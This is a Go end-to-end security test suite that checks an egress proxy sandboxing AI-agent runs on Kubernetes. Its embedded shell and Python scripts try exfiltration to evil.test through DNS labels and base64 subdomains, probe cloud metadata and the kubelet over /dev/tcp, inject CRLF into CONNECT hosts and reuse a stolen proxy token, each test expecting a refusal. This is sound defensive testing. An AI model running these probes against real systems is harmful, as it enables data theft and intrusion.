// SPDX-License-Identifier: Apache-2.0

//go:build e2e && security

package e2e_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"motorcortex.dev/motorcortex/api/v1alpha1"
	"motorcortex.dev/motorcortex/internal/egress/grant"
	"motorcortex.dev/motorcortex/test/internet"
)

func TestSecurityAllowedDomainsAloneAreReached(t *testing.T) {
	t.Parallel()
	run := startRun(t, "case", withDomains("allowed.test", "*.wild.test", "allowed.test:80", "internal.test", "metadata.test", "loopback.test",
		"node.test", "mixed.test", "alias.test", "six.test"), withScript("case.sh", `
echo "allowed $(tunnel https://allowed.test/) $(cat body)"
echo "wildcard $(tunnel https://sub.wild.test/) $(cat body)"
echo "plain $(tunnel http://allowed.test/) $(cat body)"
for host in evil.test evil-allowed.test wild.test allowed.test.evil.test xallowed.test 45.45.45.10 127.0.0.1 0x7f000001 localhost; do
  echo "$host $(tunnel https://$host/)"
done
echo "port $(tunnel https://allowed.test:8443/)"
for host in internal.test metadata.test loopback.test node.test mixed.test alias.test six.test; do
  echo "$host $(tunnel https://$host/)"
done
python3 - <<'END'
import urllib.request, urllib.error
try:
    urllib.request.urlopen("https://evil.test/", timeout=15)
except urllib.error.URLError as e:
    print("python", e.reason)
END
`))
	done := wantCompleted(t, run, 2*soon)
	outputs := said(t, done)
	lines := strings.Split(outputs[0], "\n")
	for i, want := range []string{
		"allowed 200 200 hello from allowed.test", "wildcard 200 200 hello from sub.wild.test", "plain 000 200 hello from allowed.test",
		"evil.test 403", "evil-allowed.test 403", "wild.test 403", "allowed.test.evil.test 403", "xallowed.test 403",
		"45.45.45.10 4", "127.0.0.1 ", "0x7f000001 ", "localhost ", "port 403",
	} {
		if i >= len(lines) || !strings.HasPrefix(lines[i], want) {
			t.Errorf("line %d, want %q…:\n%s", i, want, outputs[0])
		}
	}
	for _, host := range []string{"internal", "metadata", "loopback", "node", "mixed", "alias", "six"} {
		// What a forbidden address answers with shows only after the tunnel began, or instead of it; never a status of the host's.
		if !slices.ContainsFunc(lines, func(l string) bool { return strings.HasPrefix(l, host+".test ") && strings.HasSuffix(l, " 000") }) {
			t.Errorf("%s.test was reached:\n%s", host, outputs[0])
		}
	}
	if last := lines[len(lines)-1]; !strings.HasPrefix(last, "python ") || !strings.Contains(last, "evil.test") {
		t.Errorf("a program is not told which domain was denied: %q", last)
	}
	wantNothingElseLeft(t)
	wantCondition(t, done, v1alpha1.ConditionIsolationVerified, metav1.ConditionTrue, "")
	wantEvent(t, done, "EgressDenied", "evil.test:443")
}

// The proof of the tool server is over when the first call runs, so the first calls are made in its first moment.
func TestSecurityFirstSecondsOfLife(t *testing.T) {
	t.Parallel()
	for range 3 {
		run := startRun(t, "case", withScript("case.sh", `
end=$((SECONDS + 5)); tries=0
while [ $SECONDS -lt $end ]; do
  for at in 45.45.45.66/443 45.45.45.66/80 45.45.45.53/53 10.96.0.1/443 10.96.0.10/53; do
    timeout 0.3 bash -c ": <>/dev/tcp/$at" 2>/dev/null && echo "reached $at" &
  done
  wait; tries=$((tries + 1))
done
[ $tries -gt 3 ] && echo tried`))
		wantSaid(t, wantCompleted(t, run, 2*soon), 0, "tried")
	}
	wantNothingElseLeft(t)
}

func TestSecurityDirectWaysOut(t *testing.T) {
	t.Parallel()
	neighbour := awaitQuestion(t, startRun(t, "ask"))
	port := nodePort(t)
	must(t, rememberProxies(t.Context()))
	proxies := proxyPods(t)
	targets := []string{
		"outside-tcp tcp 45.45.45.66 443", "outside-plain tcp 45.45.45.66 80", "outside-dns udp 45.45.45.53 53", "allowed-directly tcp 45.45.45.10 443",
		"any tcp 8.8.8.8 443", "metadata tcp 169.254.169.254 80", "api tcp 10.96.0.1 443", "dns udp 10.96.0.10 53",
		fmt.Sprintf("api-node tcp %s 6443", nodeAddress), fmt.Sprintf("kubelet tcp %s 10250", nodeAddress), fmt.Sprintf("node-port tcp %s %d", nodeAddress, port),
		fmt.Sprintf("neighbour tcp %s 8443", neighbour.Status.Sandbox.PodIP), fmt.Sprintf("proxy-metrics tcp %s 8080", proxies[0]), fmt.Sprintf("proxy-health tcp %s 8081", proxies[0]),
		"mapped tcp ::ffff:45.45.45.66 443", "six tcp 2606:4700:4700::1111 443", "six-metadata tcp fd00:ec2::254 80",
	}
	// With a way to the proxy, and without one.
	for name, domains := range map[string][]v1alpha1.Domain{"closed": nil, "with the proxy": {"allowed.test"}} {
		t.Run(name, func(t *testing.T) {
			run := startRun(t, "case", withDomains(domains...), withScript("case.sh", fmt.Sprintf(`
cat > targets.txt <<'END'
%s
END
python3 - <<'END'
import concurrent.futures, socket
QUERY = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04evil\x04test\0\0\x01\0\x01"
def attempt(line):
    name, network, ip, port = line.split()
    try:
        with socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_STREAM if network == "tcp" else socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            s.connect((ip, int(port)))
            if network == "udp":
                s.send(QUERY); s.recv(1)
    except OSError:
        return
    print("reached", name)
lines = open("targets.txt").read().splitlines()
for _ in range(2):
    with concurrent.futures.ThreadPoolExecutor(32) as pool: list(pool.map(attempt, lines))
for kind, proto in ((socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.SOCK_RAW, socket.IPPROTO_RAW), (socket.SOCK_DGRAM, socket.IPPROTO_ICMP)):
    try:
        with socket.socket(socket.AF_INET, kind, proto) as s:
            s.settimeout(2)
            s.sendto(b"\x08\x00\xf7\xff\0\0\0\0", ("45.45.45.66", 0)); s.recv(1)
            print("reached by", kind, proto)
    except OSError:
        pass
for name in ("secret-in-a-label.evil.test", "kubernetes.default.svc.cluster.local", "allowed.test"):
    try:
        print("resolved", socket.getaddrinfo(name, 443))
    except OSError:
        pass
print("tried", len(lines))
END`, strings.Join(targets, "\n"))))
			wantSaid(t, wantCompleted(t, run, 2*soon), 0, fmt.Sprintf("tried %d", len(targets)))
		})
	}
	wantNothingElseLeft(t)
}

// nodePort makes a Service of the model server's that listens on each node.
func nodePort(t *testing.T) int32 {
	t.Helper()
	s := &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Namespace: suite.namespace, GenerateName: "node-port-"},
		Spec: corev1.ServiceSpec{
			Type: corev1.ServiceTypeNodePort, Selector: map[string]string{"app.kubernetes.io/name": modelServer},
			Ports: []corev1.ServicePort{{Port: 8080, TargetPort: intstr.FromString("http")}},
		},
	}
	must(t, suite.client.Create(t.Context(), s))
	return s.Spec.Ports[0].NodePort
}

func proxyPods(t *testing.T) []string {
	t.Helper()
	var pods corev1.PodList
	must(t, suite.client.List(t.Context(), &pods, client.InNamespace(managerNamespace), proxyLabels))
	var ips []string
	for _, p := range pods.Items {
		if p.DeletionTimestamp == nil {
			ips = append(ips, p.Status.PodIP)
		}
	}
	return ips
}

func TestSecurityNoQueryLeaves(t *testing.T) {
	t.Parallel()
	run := startRun(t, "case", withDomains("allowed.test"), withScript("case.sh", `
for name in c2VjcmV0.evil.test c2VjcmV0.allowed.test c2VjcmV0.api.test allowed.test.; do
  echo "$(tunnel https://$name/)"
done
python3 - <<'END'
import os, socket
proxy = os.environ["HTTPS_PROXY"].split("@")[1].split(":")
token = os.environ["HTTPS_PROXY"].split("//")[1].split("@")[0]
import base64
auth = base64.b64encode(token.encode()).decode()
for host in ("c2VjcmV0.evil.test", "c2Vj\x00.allowed.test", "allowed.test\r\nX: y", "allowed.test%00.evil.test", "[allowed.test]", "a@allowed.test", "allowed..test"):
    s = socket.create_connection((proxy[0], int(proxy[1])), 15)
    s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\nProxy-Authorization: Basic %s\r\n\r\n" % (host, host, auth)).encode("latin1"))
    print(s.recv(4096).decode("latin1").split("\r\n")[0].split(" ")[1])
END`))
	done := wantCompleted(t, run, 2*soon)
	for i, line := range strings.Split(said(t, done)[0], "\n") {
		if !strings.HasPrefix(line, "4") {
			t.Errorf("line %d is %q, want a refusal", i, line)
		}
	}
	for _, name := range world.net.Names.Asked() {
		if strings.Contains(name, "c2vj") {
			t.Errorf("the DNS server was asked for %q", name)
		}
	}
	wantNothingElseLeft(t)
}

func TestSecurityOtherRunsToken(t *testing.T) {
	t.Parallel()
	first := startRun(t, "case-ask", withDomains("allowed.test"), withScript("case.sh", `echo "$HTTPS_PROXY" | tee proxy.txt`), withScript("after.sh", `echo "$(tunnel https://allowed.test/)"`))
	asked := awaitQuestion(t, first)
	stolen := strings.TrimSpace(inSandbox(t, asked, "cat /workspace/proxy.txt"))
	if !strings.Contains(stolen, "@") || strings.Contains(said(t, asked)[0], stolen) {
		t.Fatal("the proxy of a run has no token, or its journal has it")
	}
	second := startRun(t, "case", withDomains("api.test"), withScript("case.sh", `
echo "$(tunnel -x `+stolen+` https://allowed.test/)"
proxy=${HTTPS_PROXY#*@}
echo "$(tunnel -x http://$proxy https://allowed.test/)"
echo "$(tunnel -x http://motor:wrong@$proxy https://allowed.test/)"`))
	wantSaid(t, wantCompleted(t, second, 2*soon), 0, "403 000", "407 000", "407 000")
	respond(t, asked, asked.Status.Pending().ID, "yes")
	done := wantCompleted(t, first, soon)
	wantSaid(t, done, 1, "200 200")
	wantNothingElseLeft(t)
}

func TestSecurityDomainRequest(t *testing.T) {
	t.Parallel()
	for decision, want := range map[v1alpha1.Decision][]string{
		v1alpha1.DecisionAllowOnce: {"403 000", "200 200", "403 000"},
		v1alpha1.DecisionAllowRun:  {"403 000", "200 200", "200 200"},
		v1alpha1.DecisionDeny:      {"403 000", "403 000", "403 000"},
	} {
		t.Run(string(decision), func(t *testing.T) {
			t.Parallel()
			run := startRun(t, "domain", withDomains("api.test"), withScript("case.sh", `tunnel https://allowed.test/`), func(r *v1alpha1.MotorRun) {
				r.Spec.Task += " domain=allowed.test"
			})
			asked := awaitQuestion(t, run)
			wantCondition(t, asked, v1alpha1.ConditionAwaitingInput, metav1.ConditionTrue, v1alpha1.ReasonDomainRequest)
			if p := asked.Status.Pending(); p.Kind != v1alpha1.InputDomainRequest || p.Domain != "allowed.test" {
				t.Errorf("it waits for %+v", p)
			}
			decide(t, asked, decision)
			done := wantCompleted(t, run, 2*soon)
			for i, line := range want {
				wantSaid(t, done, i, line)
			}
			if by := done.Spec.Responses[0].RespondedBy; by == "" {
				t.Error("nobody is said to have decided")
			}
		})
	}
}

// What is allowed once is for one call: the next call of the same answer does not get it, and neither does what was in the background before
// or is left there by the call.
func TestSecurityAllowOnceIsForOneCall(t *testing.T) {
	t.Parallel()
	run := startRun(t, "domain-once", withDomains("api.test"), withScript("case.sh", `tunnel https://allowed.test/`),
		withScript("back.sh", `while true; do tunnel -o other https://allowed.test/ >> back.log; sleep 0.1; done`), func(r *v1alpha1.MotorRun) {
			r.Spec.Task += " domain=allowed.test"
		})
	asked := awaitQuestion(t, run)
	inSandbox(t, asked, "until grep -q 403 /workspace/back.log; do sleep 0.1; done")
	decide(t, asked, v1alpha1.DecisionAllowOnce)
	done := wantCompleted(t, run, 2*soon)
	wantSaid(t, done, 2, "403 000")
	wantSaid(t, done, 3, "403 000")
	// It also says what became of the background.
	if first := said(t, done)[1]; !strings.HasPrefix(first, "200 200\n") {
		t.Errorf("the first call said %s", first)
	}
	journal, err := steps(t.Context(), done)
	must(t, err)
	if p := journal[0].Status.Background; len(p) != 1 || p[0].State != v1alpha1.ProgramStopped {
		t.Errorf("what was in the background: %+v", p)
	}
}

// A run without any domain gets its way to the proxy while it lives.
func TestSecurityFirstDomainIsRequested(t *testing.T) {
	t.Parallel()
	run := startRun(t, "domain", withScript("case.sh", `tunnel https://allowed.test/`), func(r *v1alpha1.MotorRun) {
		r.Spec.Task += " domain=allowed.test"
		r.Spec.Tools = append(r.Spec.Tools, "request_domain")
	})
	asked := awaitQuestion(t, run)
	decide(t, asked, v1alpha1.DecisionAllowRun)
	done := wantCompleted(t, run, 2*soon)
	for i, line := range []string{"000 000", "200 200", "200 200"} {
		wantSaid(t, done, i, line)
	}
	wantNothingElseLeft(t)
}

func decide(t *testing.T, run *v1alpha1.MotorRun, decision v1alpha1.Decision) {
	t.Helper()
	patch(t, run, types.JSONPatchType, fmt.Sprintf(`[{"op":"add","path":"/spec/responses/-","value":{"id":%q,"decision":%q}}]`, run.Status.Pending().ID, decision))
}

func TestSecurityRevocationClosesTunnels(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t, "revoke")
	must(t, createCortex(t.Context(), ns, v1alpha1.ModelEndpoint{Model: "scripted/answer", BaseURL: modelURL(modelServer)}))
	run := startRun(t, "case", inNamespace(ns), withDomains("allowed.test"), withScript("case.sh", `
touch started
curl -sS -N -m 100 --cacert ca.pem https://allowed.test/stream > ticks 2>error; echo "ended with $?"
echo "$(tunnel https://allowed.test/)"`))
	awaitCommand(t, run)
	inSandbox(t, run, "until grep -q 'tick 3' /workspace/ticks 2>/dev/null; do sleep 0.05; done")
	narrowed := time.Now()
	cortex := &v1alpha1.MotorCortex{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: v1alpha1.CortexName}}
	must(t, suite.client.Patch(t.Context(), cortex, client.RawPatch(types.MergePatchType, []byte(`{"spec":{"egress":{"allowedDomains":["api.test"]}}}`))))
	done := wantCompleted(t, run, soon)
	t.Logf("the run had ended %s after its domain was taken away", time.Since(narrowed).Round(10*time.Millisecond))
	lines := strings.Split(said(t, done)[0], "\n")
	if len(lines) != 2 || lines[0] == "ended with 0" || lines[0] == "ended with 28" || strings.HasPrefix(lines[1], "200") {
		t.Errorf("after the domain was taken away: %q", lines)
	}
}

func TestSecurityProxiesAreDown(t *testing.T) {
	run := startRun(t, "case-ask", withDomains("allowed.test"),
		withScript("case.sh", `echo "$(tunnel https://allowed.test/)"`),
		withScript("after.sh", `echo "$(tunnel -m 5 https://allowed.test/)"; timeout 2 bash -c ": <>/dev/tcp/45.45.45.10/443" 2>/dev/null && echo reached; echo over`))
	asked := awaitQuestion(t, run)
	wantSaid(t, asked, 0, "200 200")
	scaleProxy(t, 0)
	before := world.net.Cable.Count(func(internet.Packet) bool { return true })
	respond(t, asked, asked.Status.Pending().ID, "yes")
	// The loop waits for its way out before it makes the call.
	awaitRun(t, run, soon, "the answer", func(r *v1alpha1.MotorRun) bool { return r.Status.Pending() == nil })
	if n := world.net.Cable.Count(func(internet.Packet) bool { return true }); n != before {
		t.Errorf("%d packets left the cluster without a proxy", n-before)
	}
	scaleProxy(t, 2)
	must(t, rememberProxies(t.Context()))
	wantSaid(t, wantCompleted(t, run, 2*soon), 1, "200 200", "over")
	wantNothingElseLeft(t)
}

func scaleProxy(t *testing.T, replicas int32) {
	t.Helper()
	d := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: proxyDeployment.Namespace, Name: proxyDeployment.Name}}
	must(t, suite.client.Patch(t.Context(), d, client.RawPatch(types.MergePatchType, fmt.Appendf(nil, `{"spec":{"replicas":%d}}`, replicas))))
	must(t, deploymentIsAvailable(t.Context(), proxyDeployment))
	err := await(t.Context(), soon, &corev1.PodList{}, []client.ListOption{client.InNamespace(managerNamespace), proxyLabels}, func(ctx context.Context) (bool, error) {
		var pods corev1.PodList
		err := suite.client.List(ctx, &pods, client.InNamespace(managerNamespace), proxyLabels)
		return len(pods.Items) == int(replicas), err
	})
	must(t, err)
}

// A new proxy knows the grants before it is asked.
func TestSecurityProxiesAreReplaced(t *testing.T) {
	run := startRun(t, "case", withDomains("allowed.test"), withScript("case.sh", `
touch started
for i in $(seq 150); do [ -e stop ] && break; echo "$(tunnel -m 10 https://allowed.test/)" >> all; sleep 0.1; done
sort all | uniq -c | sed 's/^ *[0-9]* //'`))
	awaitCommand(t, run)
	must(t, patchProxy(t.Context(), fmt.Sprintf(`{"spec":{"template":{"metadata":{"annotations":{"replaced":%q}}}}}`, time.Now().Format(time.RFC3339))))
	must(t, rememberProxies(t.Context()))
	inSandbox(t, run, "touch /workspace/stop")
	wantSaid(t, wantCompleted(t, run, 2*soon), 0, "200 200")
	wantNothingElseLeft(t)
}

func TestSecurityGrantGoesWithTheRun(t *testing.T) {
	t.Parallel()
	run := startRun(t, "case-ask", withDomains("allowed.test"), withScript("case.sh", `echo "$(tunnel https://allowed.test/)"`), withScript("after.sh", "true"))
	asked := awaitQuestion(t, run)
	key := types.NamespacedName{Namespace: managerNamespace, Name: grant.SecretName(string(asked.UID))}
	if found, err := exists(t.Context(), key, &corev1.Secret{}); err != nil || !found {
		t.Fatalf("the run has no grant: %v", err)
	}
	must(t, suite.client.Delete(t.Context(), asked))
	err := await(t.Context(), soon, &corev1.SecretList{}, one(key), func(ctx context.Context) (bool, error) {
		found, err := exists(ctx, key, &corev1.Secret{})
		return !found, err
	})
	if err != nil {
		t.Errorf("the grant of a deleted run: %v", err)
	}
}

// A host gives its public address first and an address of the cluster afterwards. Each connection goes to the address that was judged for it.
func TestSecurityANameThatChangesItsAddress(t *testing.T) {
	t.Parallel()
	run := startRun(t, "case", withDomains("rebind.test:80"), withScript("case.sh", `
for i in 1 2 3 4; do echo "$(tunnel http://rebind.test/) $(grep -c 'hello from allowed.test' body)"; rm -f body; done`))
	lines := strings.Split(said(t, wantCompleted(t, run, 2*soon))[0], "\n")
	if len(lines) != 4 || lines[0] != "000 200 1" {
		t.Fatalf("the first address is a public one: %q", lines)
	}
	for _, l := range lines[1:] {
		if l != "000 403 0" {
			t.Errorf("the second address is one of the cluster: %q", l)
		}
	}
	wantEvent(t, run, "EgressDenied", "rebind.test:80")
	wantNothingElseLeft(t)
}
